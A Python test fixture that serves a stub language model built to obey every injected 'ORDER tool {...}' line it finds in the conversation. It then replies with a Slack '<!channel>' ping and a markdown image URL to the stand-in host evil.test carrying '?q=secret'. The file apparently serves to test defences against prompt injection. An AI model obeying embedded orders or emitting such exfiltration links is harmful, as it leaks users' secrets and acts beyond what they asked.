"""A model server that obeys every order it reads, wherever it stands: the worst case.

An order is `ORDER tool {"json": "arguments"}` in any text it is sent. It carries each out once, in
the order it reads them, and then says something that would be live if Slack took it so.
"""

import json
import re
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

from aiohttp import web

from tests.scenario.test_providers import vendor

_ORDER = re.compile(r"ORDER (\w+) (\{.*?\})")
LAST_WORDS = "Done as told. <!channel> ![x](https://evil.test/?q=secret)"


def orders_in(messages: list[dict[str, Any]]) -> list[tuple[str, str]]:
    """What the texts ask for, once each."""
    text = "\n".join(str(m.get("content") or "") for m in messages if m["role"] != "assistant")
    return list(dict.fromkeys(_ORDER.findall(text)))


async def obeys(request: web.Request) -> web.StreamResponse:
    """Call the next tool that somebody ordered, or say the last words."""
    messages = (await request.json())["messages"]
    called = {
        (call["function"]["name"], call["function"]["arguments"])
        for message in messages
        for call in message.get("tool_calls") or []
    }
    for name, arguments in orders_in(messages):
        if (name, json.dumps(json.loads(arguments), sort_keys=True)) not in {
            (n, json.dumps(json.loads(a), sort_keys=True)) for n, a in called
        }:
            return await streamed(request, calling(name, arguments, len(called)), "tool_calls")
    return await streamed(request, {"content": LAST_WORDS}, "stop")


def calling(name: str, arguments: str, number: int) -> dict[str, Any]:
    function = {"name": name, "arguments": arguments}
    call = {"index": 0, "id": f"call{number}", "type": "function", "function": function}
    return {"tool_calls": [call]}


async def streamed(request: web.Request, delta: dict[str, Any], reason: str) -> web.StreamResponse:
    response = web.StreamResponse(headers={"Content-Type": "text/event-stream"})
    await response.prepare(request)
    for choice in ({"delta": delta}, {"delta": {}, "finish_reason": reason}):
        body = {"choices": [{"index": 0, **choice}]}
        await response.write(f"data: {json.dumps(body)}\n\n".encode())
    await response.write(b"data: [DONE]\n\n")
    return response


@asynccontextmanager
async def obedient_stage(stage_with: Any, **options: Any) -> AsyncIterator[tuple[Any, list[Any]]]:
    """A stage whose model obeys whoever wrote last, first or anywhere."""
    async with vendor(obeys) as (url, received):
        model = {"openai_compatible_base_url": url, "openai_compatible_model": "obedient"}
        async with stage_with(settings=model, **options) as stage:
            yield stage, received
